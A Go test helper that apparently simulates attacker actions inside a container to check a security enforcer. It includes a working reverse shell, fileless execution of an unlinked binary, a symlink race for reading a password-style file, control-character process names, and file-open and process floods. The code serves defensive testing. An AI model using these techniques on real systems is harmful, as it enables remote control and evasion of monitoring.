// Command actor does in a container what attackers do, for the tests of the
// enforcer. It prints EFFECT when an attack had its effect.
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	actors := map[string]func([]string) error{"serve": serve, "touch": touch, "read": read, "memfd": memfd, "unlinked": unlinked, "named": named, "args": args, "relay": relay,
		"resolve": resolve, "connect": connect, "flood": flood, "exits": exits, "swap": swap, "sleep": func([]string) error { time.Sleep(time.Hour); return nil }}
	for name, f := range calls() {
		actors[name] = f
	}
	name, rest := filepath.Base(os.Args[0]), os.Args[1:]
	if actors[name] == nil && len(rest) > 0 {
		name, rest = rest[0], rest[1:]
	}
	if actors[name] == nil {
		return // a name is all that some rules want
	}
	if err := actors[name](rest); err != nil {
		fmt.Fprintln(os.Stderr, "actor:", err)
		os.Exit(1)
	}
}

func effect(err error) error {
	if err == nil {
		fmt.Println("EFFECT")
	}
	return err
}

func touch(a []string) error { return effect(os.WriteFile(a[0], nil, 0o644)) }

func read(a []string) error {
	f, err := os.Open(a[0])
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.Read(make([]byte, 16))
	return effect(err)
}

// unlinked runs a file that has no name any more.
func unlinked(a []string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.WriteFile("/gone", self, 0o755); err != nil {
		return err
	}
	fd, err := syscall.Open("/gone", syscall.O_RDONLY, 0)
	if err != nil {
		return err
	}
	os.Remove("/gone")
	return syscall.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), []string{"gone", "touch", a[0]}, nil)
}

// named runs a program under a name with control characters.
func named(a []string) error {
	return syscall.Exec("/usr/bin/cat", []string{"\x1b]0;x\x07\x1b[2J\n\xff\u202e", a[0]}, []string{"X=\x1b[31m"})
}

// args runs a program with megabytes of arguments.
func args(a []string) error {
	long := strings.Repeat("x", 100_000)
	list := []string{"cat", a[0]}
	for range 18 {
		list = append(list, long)
	}
	return syscall.Exec("/usr/bin/cat", list, nil)
}

// relay is a reverse shell whose socket is nobody's standard stream.
func relay(a []string) error {
	c, err := net.Dial("tcp", a[0])
	if err != nil {
		return err
	}
	sh := exec.Command("/bin/sh")
	in, err := sh.StdinPipe()
	if err != nil {
		return err
	}
	sh.Stdout, sh.Stderr = c, c // pipes, since c is no file
	go func() {
		io.Copy(in, c)
		in.Close()
	}()
	return sh.Run()
}

func connect(a []string) error {
	c, err := net.DialTimeout(a[0], a[1], 5*time.Second)
	if err == nil {
		c.Close()
	}
	return effect(err)
}

// resolve asks a name server for a name.
func resolve(a []string) error {
	c, err := net.DialTimeout(a[0], a[1], 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	q := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00")
	for _, label := range strings.Split(a[2], ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	if a[0] == "tcp" {
		q = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
	}
	if _, err := c.Write(q); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 1500))
	return effect(err)
}

// flood opens a file to write as fast as it can, for some seconds.
func flood(a []string) error {
	seconds, _ := strconv.Atoi(a[0])
	fmt.Println("begun")
	for n, end := 0, time.Now().Add(time.Duration(seconds)*time.Second); ; n++ {
		fd, err := syscall.Open("/tmp/flood", syscall.O_CREAT|syscall.O_WRONLY, 0o600)
		if err != nil {
			return err
		}
		syscall.Close(fd)
		if n%1000 == 0 && time.Now().After(end) {
			fmt.Println(n, "opens")
			return nil
		}
	}
}

// exits runs programs that end at once.
func exits(a []string) error {
	n, _ := strconv.Atoi(a[0])
	for range n {
		if err := exec.Command("/bin/true").Run(); err != nil {
			return err
		}
	}
	return nil
}

// swap points a link at one file and another in turn while it is read.
func swap(a []string) error {
	done := make(chan struct{})
	defer close(done)
	go func() {
		for i := 0; ; i++ {
			select {
			case <-done:
				return
			default:
			}
			os.Symlink(a[i%2], "/tmp/link.new")
			os.Rename("/tmp/link.new", "/tmp/link")
		}
	}()
	for range 200_000 {
		if b, err := os.ReadFile("/tmp/link"); err == nil && bytes.Contains(b, []byte("root:*:")) {
			fmt.Println("EFFECT")
			return nil
		}
	}
	return fmt.Errorf("the race was never won")
}

// serve is the other side: it takes connections, hands out commands for a
// shell, and answers to names.
func serve(a []string) error {
	command, script, answers := a[0], a[1], a[2] // ADDRESS:PORT for shells, what they are told, ADDRESS of names; further ADDRESS:PORT take and close
	l, err := net.Listen("tcp", command)
	if err != nil {
		return err
	}
	go each(l, func(c net.Conn) {
		io.WriteString(c, script)
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		io.Copy(io.Discard, c)
	})
	u, err := net.ListenPacket("udp", answers+":53")
	if err != nil {
		return err
	}
	go func() {
		b := make([]byte, 1500)
		for {
			n, from, err := u.ReadFrom(b)
			if err != nil {
				return
			}
			u.WriteTo(answer(b[:n]), from)
		}
	}()
	t, err := net.Listen("tcp", answers+":53")
	if err != nil {
		return err
	}
	go each(t, func(c net.Conn) {
		b := make([]byte, 1500)
		n, err := c.Read(b)
		if err != nil || n < 14 {
			return
		}
		m := answer(b[2:n])
		c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(m))), m...))
	})
	for _, at := range a[3:] {
		l, err := net.Listen("tcp", at)
		if err != nil {
			return err
		}
		go each(l, func(c net.Conn) {
			io.WriteString(c, "HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nsecret\n")
		})
	}
	fmt.Println("ready")
	select {}
}

func each(l net.Listener, f func(net.Conn)) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			f(c)
		}()
	}
}

// answer makes an answer of a question: one address.
func answer(q []byte) []byte {
	if len(q) < 12 {
		return q
	}
	m := append([]byte(nil), q...)
	m[2], m[3], m[7] = 0x81, 0x80, 1
	return append(m, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 198, 51, 100, 7)
}
